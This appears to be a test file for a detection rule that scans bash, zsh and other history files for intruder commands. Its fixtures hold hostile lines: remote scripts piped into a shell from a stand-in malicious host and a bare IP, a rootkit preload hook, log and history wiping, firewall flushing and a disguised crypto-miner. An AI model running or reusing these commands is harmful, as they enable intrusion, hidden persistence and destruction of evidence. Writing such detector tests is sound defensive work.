import { historyFacts } from '../../../test/helpers/log-users';
import { testRule } from '../../../test/helpers/rule-tester';
import rule from './history-suspicious-commands';

testRule(rule, {
  valid: [
    {
      name: 'everyday administration',
      facts: {
        histories: historyFacts({
          '/root/.bash_history':
            'apt update\napt install -y nginx\nsystemctl restart nginx\ncurl -s https://example.com/health\nwget https://example.com/pkg.deb\ngrep xmrig /var/log/syslog\nhistory | tail\ntail -f /var/log/nginx/access.log\n',
          '/home/deploy/.python_history': 'import requests\nrequests.get("https://example.com")\n',
          '/home/deploy/.mysql_history': 'show databases;\nselect * from users limit 10;\n',
        }),
      },
    },
    {
      // The CentOS/Kylin Kubernetes preparation every Chinese install guide prints, with nothing else around it.
      name: 'kubernetes node preparation (setenforce 0, firewalld stopped) and chattr hardening',
      facts: {
        histories: historyFacts({
          '/root/.bash_history':
            'setenforce 0\nsed -i s/^SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config\nsystemctl stop firewalld\nsystemctl disable firewalld\nswapoff -a\nchattr +i /etc/passwd /etc/shadow /etc/group /etc/gshadow\nyum install -y kubelet kubeadm kubectl\n',
        }),
      },
    },
    {
      name: 'administrators reading logs and ld.so.preload, cleaning rotated logs, hardening with chattr',
      facts: {
        histories: historyFacts({
          '/root/.bash_history': [
            'cat /etc/ld.so.preload',
            'ldd /bin/ls',
            'grep Failed /var/log/auth.log | tail',
            'last -f /var/log/wtmp',
            'rm /var/log/syslog.2.gz /var/log/auth.log.3.gz',
            'journalctl -u nginx > /var/log/nginx-debug.txt',
            'lsattr /etc/passwd',
            'chattr +i /etc/resolv.conf',
            'iptables -L -n',
            'nft list ruleset',
            'ufw status',
            'echo "export HISTTIMEFORMAT=\'%F %T \'" >> /etc/profile',
          ].join('\n'),
        }),
      },
    },
  ],
  invalid: [
    {
      name: 'vendor installers over https (docker, k3s, rustup, nodesource) and the BT panel installer are low',
      facts: {
        histories: historyFacts({
          '/root/.bash_history': [
            'curl -fsSL https://get.docker.com | sh',
            'curl -sfL https://get.k3s.io | sh -',
            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
            'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -',
            'yum install -y wget && wget -O install.sh http://download.bt.cn/install/install_6.0.sh && sh install.sh ed8484bec',
          ].join('\n'),
        }),
      },
      expect: [
        { severity: 'low', path: '/root/.bash_history', title: /pipes it into a shell \(4×\)/, evidence: /get\.docker\.com/ },
        { severity: 'low', title: /downloads a file then/, evidence: /download\.bt\.cn/ },
      ],
    },
    {
      name: 'an unknown https host is high; ignoring the certificate or a bare address keeps it critical',
      facts: {
        histories: historyFacts({
          '/root/.bash_history': 'curl -fsSL https://scripts.example.org/setup.sh | bash\n',
          '/home/deploy/.bash_history':
            'curl -fsSLk https://get.docker.com.example.net/x | sh\ncurl 45.67.89.10/ldr.sh | sh\nsetenforce 0\nsystemctl stop firewalld\n',
        }),
      },
      expect: [
        { severity: 'critical', user: 'deploy', title: /pipes it into a shell \(2×\)/ },
        { severity: 'high', user: 'root', title: /pipes it into a shell \(1×\)/ },
        { severity: 'high', user: 'deploy', title: /disables SELinux/ },
        { severity: 'high', user: 'deploy', title: /flushes or turns off the firewall/, evidence: /systemctl stop firewalld/ },
      ],
    },
    {
      name: 'stopping a cloud security agent is high even alone',
      facts: { histories: historyFacts({ '/root/.bash_history': 'systemctl stop aegis\n/etc/init.d/aegis stop\n' }) },
      expect: [{ severity: 'high', title: /disables SELinux/ }],
    },
    {
      name: 'seed 002 dropper, wiping and chattr grouped per pattern',
      facts: {
        histories: historyFacts({
          '/root/.bash_history': [
            '#1763521250',
            'wget -qO- http://malicious-site.com/m.sh | bash',
            'curl -fsSL http://45.67.89.10/x.sh | sh',
            'chattr +i /etc/cron.d/sysupdate',
            'history -c',
            'export HISTFILE=/dev/null; unset HISTFILE',
            `echo ${'\u001b[2J'.repeat(3)}${'A'.repeat(3000)}`,
          ].join('\n'),
        }),
      },
      expect: [
        {
          severity: 'critical',
          user: 'root',
          path: '/root/.bash_history',
          title: /downloads a script and pipes it into a shell \(2×\)/,
          evidence: /\.bash_history:2 \[2025-11-19T03:00:50\.000Z\]: wget -qO- http:\/\/malicious-site\.com\/m\.sh \| bash/,
        },
        { severity: 'high', title: /immutable\/append-only attributes of cron/, evidence: /chattr \+i \/etc\/cron\.d\/sysupdate/ },
        { severity: 'high', path: '/root/.bash_history', title: /wipes or disables shell history \(2×\)/ },
      ],
    },
    {
      name: 'zsh extended history with a renamed miner',
      facts: {
        histories: historyFacts({
          '/home/deploy/.zsh_history':
            ': 1763521250:0;./sshd -o pool.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level 1\n',
        }),
      },
      expect: [
        { severity: 'critical', user: 'deploy', path: '/home/deploy/.zsh_history', title: /donation/ },
        { severity: 'critical', title: /Pool address/ },
        { severity: 'critical', title: /Monero or Ethereum wallet/ },
      ],
    },
    {
      name: 'covering tracks: ld.so.preload, chattr on keys and binaries, firewall flush, log and history wiping',
      facts: {
        histories: historyFacts({
          '/root/.bash_history': [
            'echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload',
            'chattr -i /etc/ld.so.preload',
            'chattr +ia /root/.ssh/authorized_keys',
            'chattr -i /usr/bin/crontab',
            'iptables -F',
            'nft flush ruleset',
            'ufw disable',
            'echo > /var/log/wtmp',
            'cat /dev/null > /var/log/secure',
            'rm -rf /var/log/*',
            'shred -u /var/log/auth.log',
            'echo > .bash_history',
            'set +o history',
            'HISTSIZE=0',
          ].join('\n'),
        }),
      },
      expect: [
        {
          severity: 'critical',
          title: /writes \/etc\/ld\.so\.preload \(a library loaded into every program: rootkit hook\) \(1×\)/,
          evidence: /bash_history:1: echo \/usr\/local\/lib\/libprocesshider\.so > \/etc\/ld\.so\.preload$/,
        },
        {
          severity: 'high',
          title: /edits, unlocks or deletes \/etc\/ld\.so\.preload \(1×\)/,
          evidence: /:2: chattr -i \/etc\/ld\.so\.preload/,
        },
        {
          severity: 'high',
          title: /attributes of cron, unit, start-up, key or program files .* \(2×\)/,
          evidence: /:3: chattr \+ia \/root\/\.ssh\/authorized_keys\n.*:4: chattr -i \/usr\/bin\/crontab/,
        },
        {
          severity: 'high',
          title: /deletes or empties login and system logs \(4×\)/,
          evidence:
            /:8: echo > \/var\/log\/wtmp\n.*:9: cat \/dev\/null > \/var\/log\/secure\n.*:10: rm -rf \/var\/log\/\*\n.*:11: shred -u \/var\/log\/auth\.log/,
        },
        { severity: 'high', title: /wipes or disables shell history \(3×\)/, evidence: /:12: echo > \.bash_history/ },
        {
          severity: 'high',
          title: /flushes or turns off the firewall \(3×\)/,
          evidence: /:5: iptables -F\n.*:6: nft flush ruleset\n.*:7: ufw disable/,
        },
      ],
    },
    {
      name: 'a firewall flush next to nothing else an intruder types stays out, next to a download it counts',
      facts: {
        histories: historyFacts({
          '/home/deploy/.bash_history': 'iptables -F\niptables -X\n',
          '/root/.bash_history': 'iptables -F\ncurl -s http://45.67.89.10/a.sh | bash\n',
        }),
      },
      expect: [
        { severity: 'critical', user: 'root', title: /pipes it into a shell/ },
        { severity: 'high', user: 'root', title: /firewall/ },
      ],
    },
  ],
});
